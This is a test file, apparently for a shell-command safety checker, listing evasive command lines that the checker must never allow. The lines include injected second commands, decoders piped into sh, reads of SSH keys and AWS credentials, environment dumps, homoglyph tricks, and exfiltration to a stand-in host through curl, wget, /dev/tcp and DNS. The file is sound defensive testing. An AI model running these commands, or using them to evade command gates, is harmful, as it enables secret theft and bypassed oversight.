/** Command lines that other command gates took for harmless: none of them is let through without a question. */
import { expect, test } from "bun:test"
import { judgeCommand } from "#core/safety/command.ts"

const nested = (depth: number, carrier: string): string => `${`${carrier} `.repeat(depth)}sh -c id`

test.each([
  [
    "a second command",
    ["echo ok\nfrob -x", "echo ok\r\nfrob -x", "echo ok & frob -x", "ls\\\n; frob", "echo ok\u2028frob"],
  ],
  [
    "substitution",
    [
      "ls $(frob)",
      "ls `frob`",
      'ls "$(frob)"',
      "ls ${x:-$(frob)}",
      "ls <(frob)",
      "echo $((a[$(frob)]))",
      "ls $\\\n(frob)",
    ],
  ],
  [
    "a text that is expanded",
    ["cat <<EOF\n$(frob)\nEOF", "cat <<-EOF\n`frob`\nEOF", "cat <<< $(frob)", 'cat <<"E"OF\nx\nEOF\nfrob'],
  ],
  ["one program that is many", ["busybox sh -c id", "busybox wget x.test", "toybox sh", "/bin/busybox ash"]],
  [
    "a wrapper that splits",
    ["env -S 'sh -c id'", "env -iS'sh -c id'", "env --split-string='sh -c id'", "env -u PATH sh -c id"],
  ],
  [
    "a carrier",
    [
      "/usr/bin/time -p -o f sh -c id",
      "script -qfc 'id' /dev/null",
      "flock f sh -c id",
      "nohup sh -c id",
      "nice sh -c id",
    ],
  ],
  [
    "another carrier",
    ["timeout 5 sh -c id", "xargs -I{} sh -c {}", "stdbuf -o0 sh -c id", "setsid sh", "watch id", "strace id"],
  ],
  ["a carrier in a carrier", [nested(2, "env"), nested(5, "nice"), nested(40, "nohup"), nested(400, "env")]],
  [
    "a shell of Windows",
    [
      "cmd.exe /c dir & frob",
      "cmd /d /s /c frob",
      "powershell -enc aQBkAA==",
      "pwsh -e x",
      "C:\\Windows\\System32\\bash.exe -c id",
    ],
  ],
  [
    "an option that writes or runs",
    [
      "sort -ofile in",
      "sort --compress-program=sh in",
      "sort -S1 --compress-prog sh in",
      "find . -fprintf f x",
      "git grep -Oless x",
      "git --exec-path=. log",
    ],
  ],
  [
    "an option that reads what is closed",
    [
      "grep -f ~/.ssh/id_rsa x",
      "grep -e x ~/.netrc",
      "wc --files0-from=/root/.ssh/id_rsa",
      "diff /dev/null ~/.aws/credentials",
    ],
  ],
  [
    "a filter that prints the environment",
    ["jq -n '$ENV'", "jq -n 'env'", "awk 'BEGIN{print ENVIRON[\"X\"]}'", "printenv", "env", "cat /proc/self/environ"],
  ],
  [
    "a start file",
    ["bash --rcfile f -i", "bash --init-file f", "sh -o x", "zsh -c id", "BASH_ENV=f bash x", "ENV=f sh x"],
  ],
  [
    "what hides what is run",
    [
      "X=1 frob",
      "LD_PRELOAD=x ls",
      "GIT_PAGER=id git log",
      "SHELLOPTS=xtrace PS4='$(id)' ls",
      "find . -name x -exec sh {} +",
    ],
  ],
  [
    "an argument that a shell expands",
    ["ls {a,$(frob)}", "grep $'\\x24(frob)' x$(frob)", "head -n ${x:=$(frob)} f", "tail -n $((x=1)) $(frob)"],
  ],
  [
    "a decoder into a shell",
    [
      "echo aWQ= | base64 -d | sh",
      "xxd -r -p x | bash",
      "printf '\\151d' | sh",
      "echo di | rev | sh",
      "sh<<<id",
      "eval id",
      ". ./f",
      "source f",
    ],
  ],
  [
    "a way out",
    [
      "nslookup $(id).x.test",
      "dig x.test",
      "nc x.test 1",
      "curl -d@f x.test",
      "wget --post-file=f x.test",
      "ping x.test",
      "cat f > /dev/tcp/x.test/1",
    ],
  ],
  [
    "letters that only look so",
    ["l\u0455 -la", "c\u0430t f", "\uff4c\uff53", "ls\u2060", "ec\u200bho x", "r${IFS}m x", "$'\\x72m' x"],
  ],
])("%s is never let through", (_what, lines) => {
  expect(lines.filter((line) => judgeCommand(line).verdict === "allow")).toEqual([])
})

test("names that only contain a dangerous one are not refused", () => {
  expect(
    ["lsblk", "makeself --help", "grep -rn format src", "echo shutdown"].map((line) => judgeCommand(line).verdict),
  ).not.toContain("deny")
})
